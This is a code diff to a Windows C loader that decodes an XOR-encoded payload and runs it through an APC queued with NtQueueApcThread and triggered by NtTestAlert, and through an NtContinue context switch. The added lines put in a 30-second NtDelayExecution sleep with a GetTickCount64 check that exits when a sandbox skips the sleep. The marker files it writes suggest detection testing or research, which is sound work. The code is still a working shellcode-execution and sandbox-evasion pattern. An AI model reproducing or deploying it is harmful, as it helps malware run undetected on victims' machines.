@@ -6,7 +6,9 @@
  *      queued APC runs at once                                              -> lineage_ntapc.txt
  *   s2 RtlCaptureContext + Rip = fn, Rcx = ctx, Rsp = a new stack whose return address is
  *      finish() + ntdll!NtContinue(&context, FALSE)                            -> lineage_ntcontinue.txt
- * Exit codes: 0 ok, 1 no marker, 3 memory, 4 an API missing, 5 NtContinue returned.
+ * First it sleeps 30 s with ntdll!NtDelayExecution and checks GetTickCount64 saw them pass (the
+ * sleep-skipping check of sandbox-aware loaders).
+ * Exit codes: 0 ok, 1 no marker, 3 memory, 4 an API missing, 5 NtContinue returned, 6 time.
  */
 #include "common.h"
 #include "blobs.h" /* payload_enc[]: the payload XOR 0x5a */
@@ -14,6 +16,7 @@
 typedef LONG (NTAPI *NtQueueApcThread_t)(HANDLE, PVOID, PVOID, PVOID, PVOID);
 typedef LONG (NTAPI *NtTestAlert_t)(void);
 typedef LONG (NTAPI *NtContinue_t)(PCONTEXT, BOOLEAN);
+typedef LONG (NTAPI *NtDelayExecution_t)(BOOLEAN, PLARGE_INTEGER);
 
 static struct sc_ctx c1, c2;
 static CONTEXT context;
@@ -42,6 +45,9 @@ void Entry(void)
     NtQueueApcThread_t queue;
     NtTestAlert_t alert;
     NtContinue_t cont;
+    NtDelayExecution_t delay;
+    LARGE_INTEGER interval;
+    ULONGLONG before;
     unsigned char *stack;
     ULONG_PTR *sp;
 
@@ -51,8 +57,15 @@ void Entry(void)
     queue = (NtQueueApcThread_t)(void *)GetProcAddress(ntdll, "NtQueueApcThread");
     alert = (NtTestAlert_t)(void *)GetProcAddress(ntdll, "NtTestAlert");
     cont = (NtContinue_t)(void *)GetProcAddress(ntdll, "NtContinue");
-    if (!queue || !alert || !cont)
+    delay = (NtDelayExecution_t)(void *)GetProcAddress(ntdll, "NtDelayExecution");
+    if (!queue || !alert || !cont || !delay)
         ExitProcess(4);
+
+    interval.QuadPart = -30LL * 10000000LL; /* 30 s, relative */
+    before = GetTickCount64();
+    delay(FALSE, &interval);
+    if (GetTickCount64() - before < 29000)
+        ExitProcess(6);
 
     fill_ctx(&c1, "C:\\Users\\Public\\lineage_ntapc.txt", "run as an APC delivered by NtTestAlert\n");
     queue(GetCurrentThread(), decode(), &c1, 0, 0);
